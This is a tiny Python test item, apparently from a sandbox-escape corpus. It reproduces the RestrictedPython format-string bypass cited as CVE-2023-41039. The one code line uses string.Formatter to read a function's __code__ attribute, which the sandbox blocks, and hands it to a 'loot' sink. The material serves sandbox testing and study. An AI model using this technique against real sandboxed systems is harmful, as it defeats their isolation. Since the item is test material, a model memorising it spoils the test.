# aim: let the formatter class of the library do it
# mechanism: string.Formatter.format
# source: CVE-2023-41039 (RestrictedPython)
# language: builtins
# reason: a formatter reads the attributes its template names
# jail: process
# plain: loot

import string
import textwrap

loot(string.Formatter().format("{0.__code__}", textwrap.dedent))
